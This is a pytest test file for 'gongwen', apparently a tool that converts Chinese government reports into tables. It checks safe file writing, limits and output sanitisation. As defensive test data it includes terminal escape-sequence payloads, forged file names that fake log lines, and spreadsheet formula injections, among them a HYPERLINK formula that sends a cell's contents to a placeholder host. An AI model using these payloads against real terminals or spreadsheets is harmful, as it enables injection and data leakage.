"""What the command writes is whole or is not there, and nothing of a document is obeyed by a terminal or a spreadsheet."""

from __future__ import annotations

import csv
import functools
import importlib.metadata
import io
import json
import os
import pty
import random
import shutil
import signal
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import List

import gongwen
import pytest
from conftest import REPORTS, TEXT
from faults import LITTLE
from gongwen._text import printable, readable

pytestmark = pytest.mark.skipif(os.name != "posix", reason="links, pipes and signals of POSIX")

COMMAND = [sys.executable, "-m", "gongwen"]
ESCAPES = "清河县2024年工作要点\n\n一、\x1b]0;PWNED\x07总体\x1b[2J情况\n全年办理\u202e3件\x9b31m。（责任单位：\x1b[34m县司法局）\n"


def run(*args: object, code: int = 0, cwd: object = None) -> str:
    done = subprocess.run([*COMMAND, *(os.fspath(arg) for arg in args)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=cwd)  # type: ignore[call-overload]
    assert done.returncode == code, done
    return str(done.stdout.decode() + done.stderr.decode())


def left(folder: Path) -> List[str]:
    return sorted(p.name for p in folder.iterdir())


@pytest.fixture
def source(tmp_path: Path) -> Path:
    path = tmp_path / "in" / "a.txt"
    path.parent.mkdir()
    path.write_text(TEXT, encoding="utf-8")
    return path


def test_a_link_keeps_leading_to_its_file_and_a_file_keeps_its_mode(source: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "t.csv").write_text("old")
    (out / "t.csv").chmod(0o640)
    (out / "l.csv").symlink_to("t.csv")
    run(source, "-q", "-o", out / "l.csv")
    assert (out / "l.csv").is_symlink() and (out / "t.csv").read_text("utf-8-sig").startswith("document,")
    assert stat.S_IMODE((out / "t.csv").stat().st_mode) == 0o640
    assert left(out) == ["l.csv", "t.csv"]


def test_a_part_file_of_the_users_is_left_alone(source: Path, tmp_path: Path) -> None:
    (tmp_path / "precious").write_text("mine")
    (tmp_path / "n.csv.part").symlink_to("precious")
    run(source, "-q", "-o", tmp_path / "n.csv")
    assert (tmp_path / "precious").read_text() == "mine" and (tmp_path / "n.csv.part").is_symlink()


def test_devices_and_pipes_are_written_to_as_they_are(source: Path, tmp_path: Path) -> None:
    run(source, "-q", "-f", "jsonl", "-o", "/dev/null")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with subprocess.Popen([*COMMAND, str(source), "-q", "-f", "jsonl", "-o", str(pipe)]) as process:
        assert '"document"' in pipe.read_text()
        assert process.wait(20) == 0
    assert stat.S_ISFIFO(pipe.stat().st_mode)


def shell(script: str, *args: object, code: int = 0) -> str:
    """Runs a script whose $@ is the command: what it says on the standard error."""
    done = subprocess.run(["/bin/bash", "-c", script, "sh", *COMMAND, *map(str, args)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, check=False)
    assert done.returncode == code, done
    return done.stderr.decode()


@pytest.mark.parametrize("name", ["/dev/stdout", "/dev/fd/1", "/proc/self/fd/1", "/proc/$$/fd/1", "{link}"])
def test_an_open_file_goes_on_where_it_is(source: Path, tmp_path: Path, name: str) -> None:
    """A name of a file that is open already: nothing of it is lost, and it is not replaced."""
    if not os.path.exists("/proc/self/fd") and "proc" in name:
        pytest.skip("there is no /proc")
    log, link = tmp_path / "log.jsonl", tmp_path / "link.jsonl"
    link.symlink_to("/dev/stdout")
    log.write_text("before\n")
    number = log.stat().st_ino
    form = ["-q", "-f", "jsonl", "-t", "metrics"]
    alone = tmp_path / "alone.jsonl"
    run(source, *form, "-o", alone)
    shell(f'exec >>{log}; "$@" -o {name.format(link=link)}; echo last', source, *form)
    assert log.read_text("utf-8") == "before\n" + alone.read_text("utf-8") + "last\n" and log.stat().st_ino == number
    shell(f'exec >{log}; echo first; "$@" -o {name.format(link=link)}; echo last', source, *form)
    # Another process's file is added to; where its owner writes after that is the owner's matter.
    if "$$" not in name:
        assert log.read_text("utf-8") == "first\n" + alone.read_text("utf-8") + "last\n"
    assert log.stat().st_ino == number and link.is_symlink()
    assert left(tmp_path) == ["alone.jsonl", "in", "link.jsonl", "log.jsonl"]


def test_an_open_file_that_lost_its_name_gets_none(source: Path, tmp_path: Path) -> None:
    log = tmp_path / "gone.jsonl"
    shell(f'exec 3>{log}; /bin/rm {log}; "$@" -o /dev/fd/3', source, "-q", "-f", "jsonl")
    assert left(tmp_path) == ["in"]
    assert "/dev/fd/9: Bad file descriptor" in shell('"$@" -o /dev/fd/9', source, "-q", code=2)
    # A folder that is no more is told of where the file is written, not where its name is looked at.
    assert "No such file" in shell(f'/bin/mkdir {tmp_path}/no; cd {tmp_path}/no; /bin/rmdir ../no; "$@" -o x.jsonl', source, "-q", code=2)
    # To the standard error, which a test reads; of its name no format is asked.
    assert "𠮷林县" in shell('"$@" -o /dev/stderr', source, "-q") and left(tmp_path) == ["in"]


def test_a_table_and_a_workbook_in_an_open_file(source: Path, tmp_path: Path) -> None:
    log, form = tmp_path / "log", ["-q", "-t", "metrics", "-f"]
    for _ in range(2):
        shell(f'"$@" -o /dev/stdout >>{log}', source, *form, "csv")
    assert log.read_bytes().startswith(b"\xef\xbb\xbfdocument,") and log.read_bytes().count(b"\xef\xbb\xbf") == 1, "the mark is a file's, no run's"
    pytest.importorskip("xlsxwriter")
    for to in (">", ">>"):
        log.unlink()
        shell(f'"$@" -o /dev/stdout {to}{log}', source, *form, "xlsx")
        with zipfile.ZipFile(log) as book:
            assert book.testzip() is None and b"<sheetData>" in book.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("command", [[], ["panel"]])
def test_a_source_is_not_overwritten(source: Path, tmp_path: Path, command: List[str]) -> None:
    link = tmp_path / "link.txt"
    link.symlink_to(source)
    for output in (source, link):
        said = run(*command, source, "-q", "-f", "jsonl", "-o", output, code=2)
        assert said == f"gongwen: {output}: this would overwrite {source}, which is to be read; name another file for --output\n"
    for given in (source, source.parent):
        # In a folder, under any of its names.
        said = run(*command, source.parent, given, "-q", "-f", "jsonl", "-o", link, code=2)
        assert f"would overwrite {source}, which is to be read; write outside the folder {source.parent}, or say with --include" in said
    # The standard input, if it is a file.
    with open(source, "rb") as file:
        done = subprocess.run([*COMMAND, *command, "-", "-q", "-f", "jsonl", "-o", str(link)], stdin=file, stderr=subprocess.PIPE, check=False)
    assert done.returncode == 2 and b"would overwrite the standard input" in done.stderr, done
    assert source.read_text(encoding="utf-8") == TEXT and left(source.parent) == ["a.txt"]


@pytest.mark.parametrize("command", [[], ["panel"]])
def test_a_page_in_a_folder_that_is_read_is_not_overwritten(source: Path, command: List[str]) -> None:
    page = source.parent / "page.html"
    page.write_text("<h1>清河县2023年工作报告</h1><p>全年学法4次。</p>", encoding="utf-8")
    before = page.read_bytes()
    said = run(*command, source.parent, "-q", "-o", page, code=2)
    assert f"would overwrite {page}" in said and page.read_bytes() == before
    # Where it is not read, it is written.
    run(*command, source.parent, "-q", "--include", "*.txt", "-o", page)
    assert page.read_bytes() != before


def test_several_tables_name_the_source_that_one_would_overwrite(source: Path) -> None:
    page = source.parent / "metrics.html"
    page.write_text("<p>全年学法4次。</p>", encoding="utf-8")
    said = run(source.parent, "-q", "-t", "metrics,tasks", "-f", "html", "-o", source.parent / "{table}.html", code=2)
    assert f"would overwrite {page}" in said and left(source.parent) == ["a.txt", "metrics.html"]


def test_what_an_earlier_run_wrote_as_data_is_no_source(source: Path) -> None:
    for name in ("all.csv", "all.jsonl", "all.json"):
        for _ in range(2):
            assert run(source.parent, "-o", source.parent / name) == "", "it is neither read nor counted"
        (source.parent / name).unlink()


def test_a_dictionary_is_not_overwritten(source: Path, tmp_path: Path) -> None:
    own = tmp_path / "own.tsv"
    own.write_text("id\tname\tunits\theads\nfiles\t抽查案卷\t件\t抽查行政处罚案卷\n", encoding="utf-8")
    before = own.read_bytes()
    for args in ([source], ["--list"]):
        said = run("panel", *args, "--dictionary", own, "-o", own, code=2)
        assert f"would overwrite the dictionary {own}; name another file" in said and own.read_bytes() == before


def test_a_full_disk_leaves_what_was_there(source: Path, tmp_path: Path) -> None:
    output = tmp_path / "x.jsonl"
    output.write_text("old")
    for path in range(60):
        (source.parent / f"b{path}.txt").write_text(TEXT, encoding="utf-8")
    limited = f"ulimit -f 8; trap '' XFSZ; exec {sys.executable} -m gongwen {source.parent} -q -t paragraphs -o {output}"
    done = subprocess.run(["/bin/sh", "-c", limited], stderr=subprocess.PIPE, check=False)
    assert done.returncode == 2, done
    said = done.stderr.decode()
    assert said.startswith("gongwen: ") and str(output) in said and "Traceback" not in said, said
    assert output.read_text() == "old" and left(tmp_path) == ["in", "x.jsonl"]
    if os.path.exists("/dev/full"):
        assert "/dev/full: No space left on device" in run(source, "-o", "/dev/full", code=2)
    # A disk of 64 kB, where the system lets one be made.
    disk = tmp_path / "disk"
    disk.mkdir()
    command = f"{sys.executable} -m gongwen {source.parent} -q -t paragraphs -o {disk}/x.jsonl"
    inside = f"mount -t tmpfs -o size=64k none {disk} && echo old > {disk}/x.jsonl && {{ {command}; echo $?; cd {disk}; ls -A; cat *; }}"
    if shutil.which("unshare"):
        full = subprocess.run(["unshare", "-m", "sh", "-c", inside], capture_output=True, check=False)
        if full.returncode == 0:
            assert full.stdout.split() == [b"2", b"x.jsonl", b"old"] and b"No space left on device" in full.stderr, full
    disk.rmdir()
    missing = tmp_path / "no" / "x.csv"
    assert str(missing) in run(source, "-o", missing, code=2)


@pytest.mark.parametrize("kind", ["TERM", "HUP", "INT", "KILL"])
def test_a_run_that_is_ended_leaves_a_whole_file_or_none(tmp_path: Path, kind: str) -> None:
    folder, out = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    out.mkdir()
    for i in range(300):
        (folder / f"{i}.txt").write_text(TEXT * 10, encoding="utf-8")
    output = out / "x.jsonl"
    run(folder, "-q", "-t", "metrics", "-o", output)
    whole = output.read_bytes()
    random.seed(kind)
    for _ in range(int(os.environ.get("GONGWEN_KILLS", "5"))):
        output.write_text("old")
        with subprocess.Popen([*COMMAND, str(folder), "-q", "-t", "metrics", "-o", str(output)], stderr=subprocess.PIPE) as process:
            time.sleep(random.uniform(0.02, 0.8))
            process.send_signal(getattr(signal, "SIG" + kind))
            said = process.communicate(timeout=600)[1]
        assert output.read_bytes() in (b"old", whole)
        if kind != "KILL":
            # Before the command has begun, the system ends it itself.
            assert process.returncode in (0, 129, 130, 143, -signal.SIGTERM, -signal.SIGHUP, -signal.SIGINT, 1), process.returncode
            assert left(out) == ["x.jsonl"], said
        for part in out.glob(".gongwen-*.part"):
            part.unlink()


def test_a_terminal_that_is_closed_leaves_no_part(tmp_path: Path) -> None:
    """The run waits for its input with its part begun. The line about it goes to a terminal that is no more."""
    main, terminal = pty.openpty()
    begun = "import sys; from gongwen import _cli, _write; from gongwen._cli import main\n"
    begun += "write = _write.documents\ndef wait(*given):\n    print('begun', flush=True)\n    import time; time.sleep(60)\n_write.documents = wait\nsys.exit(main())"
    command = [sys.executable, "-c", begun, str(REPORTS[0]), "-q", "-o", str(tmp_path / "x.json")]
    for ignored in (False, True):
        # nohup has the signal ignored: such a run goes on. These tests may run under nohup themselves.
        how = signal.SIG_IGN if ignored else signal.SIG_DFL
        with subprocess.Popen(
            command,
            stdout=subprocess.PIPE,
            stderr=terminal,
            start_new_session=True,
            preexec_fn=functools.partial(signal.signal, signal.SIGHUP, how),
        ) as process:
            assert process.stdout is not None
            assert process.stdout.readline() == b"begun\n" and len(left(tmp_path)) == 1
            if not ignored:
                os.close(main)
            process.send_signal(signal.SIGHUP)
            if ignored:
                with pytest.raises(subprocess.TimeoutExpired):
                    process.wait(0.5)
                process.terminate()
            # Said twice: while it clears up, or after that, where the system ends it.
            process.send_signal(signal.SIGHUP)
            assert process.wait(60) in ([143] if ignored else [129, -signal.SIGHUP])
        assert left(tmp_path) == []
    os.close(terminal)


def test_two_runs_on_one_output_leave_the_file_of_one(tmp_path: Path) -> None:
    for name in "ab":
        (tmp_path / name).mkdir()
        for i in range(40):
            (tmp_path / name / f"{name}{i}.txt").write_text(TEXT, encoding="utf-8")
    output = tmp_path / "same.csv"
    alone = []
    for name in "ab":
        run(name, "-q", "-t", "paragraphs", "-o", output, cwd=tmp_path)
        alone.append(output.read_bytes())
    for _ in range(3):
        both = [subprocess.Popen([*COMMAND, n, "-q", "-t", "paragraphs", "-o", str(output)], cwd=tmp_path) for n in "ab"]
        assert [process.wait(60) for process in both] == [0, 0]
        assert output.read_bytes() in alone
    assert left(tmp_path) == ["a", "b", "same.csv"]


def test_file_names_in_any_encoding(tmp_path: Path) -> None:
    (tmp_path / "ok.txt").write_text(TEXT, encoding="utf-8")
    name = os.fsencode(tmp_path) + b"/" + "清河县报告.txt".encode("gbk")
    with open(name, "w", encoding="utf-8") as file:
        file.write(TEXT)
    said = run(tmp_path, "-q", "-f", "jsonl")
    assert said.count("\n") == 2 and "清河县报告.txt" in said
    assert gongwen.read(os.fsdecode(name)).name == f"{tmp_path}/清河县报告.txt"
    assert readable("\ud800.txt") == "\ufffd.txt"
    bad = tmp_path / "forged\n  other.txt: is fine\x1b[2J.docx"
    bad.write_bytes(b"PK\x03\x04")
    said = run(tmp_path, "-q", "-f", "jsonl", code=1)
    assert "forged\ufffd  other.txt" in said and "\x1b" not in said


def test_folders_with_pipes_and_other_kinds(source: Path) -> None:
    os.mkfifo(source.parent / "pipe.txt")
    (source.parent / "x.xyz").write_bytes(b"1")
    (source.parent / "y.xyz").write_bytes(b"1")
    said = run(source.parent, "-f", "jsonl")
    assert "2 files of other kinds not read: 2 .xyz" in said
    (source.parent / "z.a\npassed over 0 files\x1b[2J").write_bytes(b"1")
    told = gongwen.find(source.parent).report()
    assert told == "passed over 4 files: 2 .xyz, 1 pipe or device, 1 .a\ufffdpassed over 0 files\ufffd[2j"


@pytest.mark.parametrize("command", [[], ["panel"]])
def test_a_command_that_is_not_understood_is_repeated_in_one_line(command: List[str]) -> None:
    for args in (["-x\x1b[2J\ngongwen:fine.txt"], ["a", "-t", "\x1b]0;P\x07\u202e"], ["a", "--ids", "\x9b31m"], ["a", "-o", "x.\x1b[2J\n"], ["a", "-j", "\x1bc"]):
        said = run(*command, *args, code=2)
        assert said.count("\n") == 2 and said.splitlines()[0].isprintable(), said


@pytest.mark.parametrize("do", ["parse_many(given, errors='collect')", "scan(given, errors='collect').to_arrow()"])
def test_a_pipe_in_a_folder_is_not_waited_for(source: Path, do: str) -> None:
    """Neither passed over by `find`, nor named among paths: nobody writes to it, and a thread would wait without end."""
    pytest.importorskip("pyarrow")
    os.mkfifo(source.parent / "pipe.txt")
    for given in ("find(folder)", "sorted(folder.iterdir())"):
        script = f"import pathlib\nfrom gongwen import *\nfolder = pathlib.Path({str(source.parent)!r})\ngiven = {given}\n{do}\nprint('done')"
        done = subprocess.run([sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60, check=False)
        assert done.stdout == b"done\n", done
    found = gongwen.find(source.parent)
    assert [path.name for path in found.files] == ["a.txt"] and found.report() == "passed over 1 file: 1 pipe or device"


def test_a_pipe_that_is_given_as_a_path_is_refused_by_name(source: Path) -> None:
    pipe = source.parent / "pipe.txt"
    os.mkfifo(pipe)
    script = f"import gongwen, pathlib\ngongwen.parse_many([pathlib.Path({str(pipe)!r})])"
    done = subprocess.run([sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60, check=False)
    last = done.stderr.decode().splitlines()[-1]
    assert last == f"gongwen.Error: {pipe}: it is a pipe or a device and no file; read it, and give its bytes"


def test_a_pipe_that_the_command_is_given_is_read(source: Path) -> None:
    """As a shell gives it: gongwen <(zcat a.txt.gz)."""
    reader, writer = os.pipe()
    os.write(writer, TEXT.encode())
    os.close(writer)
    done = subprocess.run([*COMMAND, f"/dev/fd/{reader}", "-q", "-f", "jsonl"], pass_fds=[reader], stdout=subprocess.PIPE, timeout=60, check=False)
    os.close(reader)
    assert done.returncode == 0 and "𠮷林县2023年" in done.stdout.decode(), done


def test_sizes_are_asked_before_reading(tmp_path: Path) -> None:
    huge = tmp_path / "huge.txt"
    with open(huge, "wb") as file:
        file.truncate(30 << 30)
    said = run(huge, code=1)
    assert "--limit input=N" in said
    with pytest.raises(gongwen.Error, match="limits.input"):
        gongwen.read(huge)
    small = tmp_path / "small.txt"
    small.write_text(TEXT, encoding="utf-8")
    assert "raise --limit text=N" in run(small, "--limit", "text=10", code=1)
    run(small, "--limit", "text=100000", "--limit", "rows=1000")
    assert "unpacked" in run(small, "--limit", "size=10", code=2)


def test_limits_are_taken_and_kept() -> None:
    with pytest.raises(gongwen.Error, match="limits.text"):
        gongwen.parse(TEXT, limits={"text": 10})
    with pytest.raises(gongwen.Error, match="limits.rows"):
        gongwen.read(TEXT.encode(), limits={"rows": 1})
    # A text is refused as the file that holds it.
    for limits, lines in (({"rows": 3}, 3), ({}, 500_000)):
        assert gongwen.parse("\n" * (lines - 1), limits=limits).text.count("\n") == lines - 1
        for refused in (gongwen.parse, lambda text, limits: gongwen.read(text.encode(), limits=limits)):
            with pytest.raises(gongwen.Error, match=f"number of rows is {lines + 1}, more than the limit of {lines}; raise `limits.rows`"):
                refused("\n" * lines, limits=limits)
    corpus = gongwen.parse_many([TEXT, "甲。"], limits={"text": 10}, errors="collect")
    assert len(corpus) == 1 and "limits.text" in corpus.failures[0].message
    with pytest.raises(ValueError, match="unpacked"):
        gongwen.parse("甲。", limits={"size": 1})
    with pytest.raises(TypeError):
        gongwen.parse("甲。", limits={"text": "1"})  # type: ignore[dict-item]
    with pytest.raises(ValueError):
        gongwen.parse("甲。", limits={"text": -1})


def test_a_terminal_obeys_nothing_of_a_document(tmp_path: Path) -> None:
    path = tmp_path / "esc.txt"
    path.write_text(ESCAPES, encoding="utf-8")
    for form in ("table", "csv", "jsonl", "json", "html"):
        for args in ([], ["-t", "paragraphs"]):
            if form == "json" and args:
                continue
            main, other = pty.openpty()
            with subprocess.Popen([*COMMAND, str(path), "-f", form, *args], stdout=other, stderr=subprocess.PIPE) as process:
                os.close(other)
                out = b""
                while True:
                    try:
                        piece = os.read(main, 65536)
                    except OSError:
                        break
                    if not piece:
                        break
                    out += piece
                assert process.wait(20) == 0
            os.close(main)
            shown = out.decode()
            assert "总体" in shown or not args
            assert not any(c in shown for c in "\x1b\x07\x9b\u202e"), (form, shown)
    assert printable("a\x1bb\nc\u2066d") == "a\ufffdb\ufffdc\ufffdd"
    # A file's words in an error, too.
    broken = io.BytesIO()
    with zipfile.ZipFile(broken, "w") as file:
        file.writestr("word/document.xml", "<document><p></\x1b[2Jp></document>")
    with pytest.raises(gongwen.Error) as error:
        gongwen.read(broken.getvalue())
    assert "\x1b" not in str(error.value) and "[2J" in str(error.value)


def test_spreadsheets_run_nothing(tmp_path: Path) -> None:
    path = tmp_path / "inj.txt"
    text = "=HYPERLINK(\"http://x/?\"&A1)工作要点\n\n一、=cmd|calc情况\n＝SUM(1+1)，全年办理3件。\n　@市财政局办理。\n-2+3提高35%。\n"
    path.write_text(text, encoding="utf-8")
    for table in ("documents", "sections", "paragraphs", "metrics"):
        for row in csv.reader(io.StringIO(run(path, "-f", "csv", "-t", table))):
            for cell in row:
                assert cell.lstrip("\u3000 ")[:1] not in tuple("=+@＝＋－＠") or cell.startswith("'"), row


def test_outputs_are_made_for_every_report(tmp_path: Path) -> None:
    run(*REPORTS, "-q", "-o", tmp_path / "all.html")
    assert "<html" in (tmp_path / "all.html").read_text(encoding="utf-8")[:200]


def test_a_child_with_little_memory_says_what_is_too_much() -> None:
    script = (
        f"{LITTLE}import gongwen\n"
        "text = '《〈' * (80 << 20 >> 2)\n"
        "try: gongwen.parse(text)\n"
        "except gongwen.Error as error: print(error)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False)
    assert done.returncode == 0, done
    assert b"raise `limits.text`" in done.stdout or b"MemoryError" in done.stderr, done


def test_the_wheel_names_what_is_linked_and_its_licences() -> None:
    files = {path.name: path for path in importlib.metadata.files("gongwen") or ()}
    parts = json.loads(files["gongwen-py.cyclonedx.json"].read_text(encoding="utf-8"))
    linked = {part["name"] for part in parts["components"]}
    assert parts["bomFormat"] == "CycloneDX" and {"nom", "pyo3", "serde", "zip"} <= linked
    texts = files["THIRD-PARTY-LICENSES.txt"].read_text(encoding="utf-8")
    assert all(f"\n{name}" in texts for name in ("nom", "pyo3", "serde", "zip", "The Rust standard library:"))
